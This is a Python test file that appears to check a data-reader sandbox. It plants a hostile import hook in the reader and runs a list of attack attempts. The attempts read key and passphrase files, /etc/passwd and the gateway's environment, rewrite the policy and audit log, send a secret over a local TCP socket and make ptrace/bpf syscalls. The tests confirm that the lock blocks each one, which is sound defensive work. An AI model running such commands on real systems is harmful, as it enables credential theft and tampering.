"""Row 49. Attack: a file of the owner's data takes over the parser that reads it, in the reader's process.

Must hold: no network, no key, no folder but the source. The code of the attack runs where the parser's would,
in a real reader that a gateway starts; with the lock off, and nothing else
changed, each attempt gets through.
"""

from __future__ import annotations

import json
import os
import select
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from plasmid.core.errors import PlasmidError
from plasmid.core.settings import dump_settings
from plasmid.data.reach import reach_of
from plasmid.gateway import open_view as opening
from plasmid.gateway.home import SiteConfig, SiteHome
from plasmid.gateway.open_view import Opened, open_view
from plasmid.gateway.views import slice_of
from plasmid.recipes.counts import CountsDocument
from support.federation.attacks import refusal

SECRET = "SECRET-OF-THE-SITE-4711"
DOCUMENT = CountsDocument.model_validate(
    {
        "computation": "counts",
        "name": "by-sex",
        "axes": [{"type": "category", "column": "sex", "vocabulary": ["female", "male"]}],
        "patient": "who",
    }
)
CSV = "who,sex\np1,female\np2,male\n"
TAKEN_OVER = """
import json, os, sys
sys.path[:0] = {path!r}
import plasmid.data.reader
from plasmid.isolation import own_process as itself
if not {locked}:
    itself.lock_in = lambda **_: []

class Hostile:
    def find_spec(self, name, *_):
        if name != {parser!r}:
            return None
        for attempt, code in {attempts!r}.items():
            try:
                exec(code, dict({names!r}, json=json, os=os))
                said = True
            except Exception as error:
                said = type(error).__name__
            os.write(2, json.dumps([attempt, said]).encode() + b"\\n")
        return None

sys.meta_path.insert(0, Hostile())
plasmid.data.reader.main()
"""
"""A reader whose parser, as it is first needed, does what an attacker would."""

ATTEMPTS = {
    "keys": "open(home + '/keys.json').read()",
    "data key": "open(home + '/data.key').read()",
    "passphrase": "open(home + '/passphrase').read()",
    "policy": "open(home + '/policy.yaml').read()",
    "policy, rewritten": "open(home + '/policy.yaml', 'a').write('allow: everything')",
    "ledger": "open(home + '/ledger.json', 'a').write('{}')",
    "log": "open(home + '/audit/log.jsonl', 'a').write('{}')",
    "names": "os.listdir(home)",
    "another view's file": "open(home + '/data/other.csv').read()",
    "its own source, rewritten": "open(home + '/data/people.csv', 'a').write('x')",
    "the host's accounts": "open('/etc/passwd').read()",
    "environment of the gateway": "open(f'/proc/{os.getppid()}/environ', 'rb').read(1)",
    "TCP": "import socket; socket.create_connection(tuple(tcp), 5).sendall(secret.encode())",
    "UDP": "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', tuple(tcp))",
    "abstract socket": "import socket; socket.socket(socket.AF_UNIX).connect(abstract)",
    "a program": "import subprocess; subprocess.run(['/bin/true'], check=True)",
    "a process": "os.waitpid(os.fork() or os._exit(0), 0)",
    "a signal to the gateway": "os.kill(os.getppid(), 0)",
    "watching the site": (
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "assert libc.inotify_add_watch(libc.inotify_init(), home.encode(), 0x100) >= 0"
    ),
    "memory without a file": "os.memfd_create('hidden')",
}


@pytest.fixture
def home(tmp_path: Path) -> SiteHome:
    made = SiteHome(tmp_path / "site")
    (made.folder / "data").mkdir(parents=True)
    (made.folder / "audit").mkdir()
    made.write_config(SiteConfig(name="alpha", organisation="Alpha"))
    (made.folder / "data" / "people.csv").write_text(CSV)
    (made.folder / "data" / "other.csv").write_text(CSV)
    (made.folder / "data" / "by-sex.csv").write_text(CSV)
    for name in ("keys.json", "passphrase", "policy.yaml", "ledger.json", "audit/log.jsonl"):
        (made.folder / name).write_text(SECRET)
    return made


@contextmanager
def listening() -> Iterator[dict[str, Any]]:
    """Have a TCP port and an abstract socket that accept."""
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_UNIX) as abstract:
        name = f"\0plasmid-reader-{os.getpid()}"
        abstract.bind(name)
        abstract.listen()
        yield {"tcp": tcp.getsockname(), "abstract": name, "listener": tcp}


def taken_over(
    home: SiteHome,
    patch: pytest.MonkeyPatch,
    attempts: dict[str, str],
    *,
    locked: bool,
    parser: str = "plasmid.data.sources.files",
    **names: Any,
) -> tuple[Opened, dict[str, Any]]:
    """Open the view by a reader that is taken over; return what came back, and how the attempts went."""
    code = TAKEN_OVER.format(
        path=sys.path,
        locked=locked,
        parser=parser,
        attempts=attempts,
        names={"home": str(home.folder), "secret": SECRET, **names},
    )

    def start(command: list[str], **how: Any) -> subprocess.Popen[bytes]:
        assert command[-1] == "plasmid.data.reader"
        return subprocess.Popen([sys.executable, "-P", "-c", code], **how)

    patch.setattr(opening, "subprocess", SimpleNamespace(Popen=start, DEVNULL=subprocess.DEVNULL))
    try:
        found = open_view(home, slice_of(home, DOCUMENT), DOCUMENT)
    finally:
        log = (home.folder / "reader.log").read_text()
        said = dict(json.loads(line) for line in log.splitlines() if line.startswith("["))
    found.close()
    return found, said


@pytest.fixture(params=[True, False], ids=["locked", "control"])
def outcome(
    request: pytest.FixtureRequest, home: SiteHome, monkeypatch: pytest.MonkeyPatch
) -> tuple[bool, dict[str, Any], bool]:
    """Whether it was locked in, how the attempts went, and whether anybody connected."""
    with listening() as there:
        listener = there.pop("listener")
        found, said = taken_over(home, monkeypatch, ATTEMPTS, locked=request.param, **there)
        heard = bool(select.select([listener], [], [], 0)[0])
    assert (found.rows, found.people) == (2, 2), "the rows are read all the same"
    return request.param, said, heard


def test_a_parser_that_is_taken_over_reaches_its_source_alone(
    outcome: tuple[bool, dict[str, Any], bool],
) -> None:
    locked, said, heard = outcome
    assert set(said) == set(ATTEMPTS)
    through = {attempt for attempt, how in said.items() if how is True}
    assert through == (set() if locked else set(ATTEMPTS)), said
    assert heard == (not locked)


def test_the_site_is_as_it_was(home: SiteHome, monkeypatch: pytest.MonkeyPatch) -> None:
    before = {path: path.read_bytes() for path in home.folder.rglob("*") if path.is_file()}
    taken_over(home, monkeypatch, ATTEMPTS, locked=True, tcp=("127.0.0.1", 1), abstract="\0nobody")
    after = {path: path.read_bytes() for path in home.folder.rglob("*") if path.is_file()}
    assert {path for path in after if before.get(path) != after[path]} == {
        home.folder / "reader.log",
        home.folder / "data.key",
    }, "the key of the hashes is drawn at the first opening"


@pytest.mark.parametrize(
    ("call", "name"), [(101, "ptrace"), (69, "msgsnd"), (321, "bpf")], ids=lambda value: str(value)
)
@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the numbers are of x86_64")
def test_what_only_an_attacker_does_ends_the_reader_and_is_told(
    home: SiteHome, monkeypatch: pytest.MonkeyPatch, call: int, name: str
) -> None:
    attempts = {name: f"import ctypes; ctypes.CDLL(None).syscall({call}, 0, 0, 0, 0)"}
    with refusal("site.sandbox") as caught:
        taken_over(home, monkeypatch, attempts, locked=True)
    assert "no reader makes" in caught.value.message
    assert taken_over(home, monkeypatch, attempts, locked=False)[1] == {name: True}, "the control"


# -- a source that is a server -----------------------------------------------------------------------


def _at(home: SiteHome, connection: dict[str, Any]) -> None:
    (home.folder / "views").mkdir(exist_ok=True)
    (home.views / "by-sex.yaml").write_bytes(dump_settings({"source": "there"}))
    home.connections.write_bytes(dump_settings({"connections": {"there": connection}}))


@pytest.mark.parametrize("locked", [True, False], ids=["locked", "control"])
def test_a_server_s_reader_connects_to_the_server_s_port_alone(
    home: SiteHome, monkeypatch: pytest.MonkeyPatch, locked: bool
) -> None:
    with listening() as there, socket.create_server(("127.0.0.1", 0)) as server:
        there.pop("listener")
        port = server.getsockname()[1]
        threading.Thread(target=_has_nothing, args=(server,), daemon=True).start()
        _at(home, {"kind": "fhir", "url": f"http://127.0.0.1:{port}/fhir"})
        attempts = {
            "server": f"import socket; socket.create_connection(('127.0.0.1', {port}), 5).close()",
            "listening": "import socket; socket.create_server(('127.0.0.1', 0))",
            **{name: ATTEMPTS[name] for name in ("keys", "TCP", "abstract socket", "a program")},
        }
        said: dict[str, Any] = {}
        try:
            taken_over(
                home, monkeypatch, attempts, locked=locked, parser="plasmid.data.sources.fhir", **there
            )
        except PlasmidError:  # the server is none
            log = (home.folder / "reader.log").read_text()
            said = dict(json.loads(line) for line in log.splitlines() if line.startswith("["))
    through = {attempt for attempt, how in said.items() if how is True}
    assert set(said) == set(attempts)
    assert through == ({"server"} if locked else set(attempts))


def _has_nothing(server: socket.socket) -> None:
    while True:
        try:
            with server.accept()[0] as asked:
                asked.recv(4096)
                asked.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        except OSError:
            return


def test_a_folder_above_the_site_s_own_is_not_opened_as_a_whole(home: SiteHome) -> None:
    (home.folder / "table.csv").write_text(CSV)
    for path in (".", "..", "../site"):
        _at(home, {"kind": "files", "path": path})
        part = slice_of(home, DOCUMENT)
        request = {
            "view": part.file.model_dump(mode="json"),
            "connections": part.connections.model_dump(mode="json"),
            "folder": str(home.folder),
            "path": None,
        }
        files = {one.resolve() for one in reach_of(request).files}
        assert not [one for one in files if home.keys.resolve().is_relative_to(one)]
        assert (home.folder.resolve() / "table.csv" in files) == (path != "..")
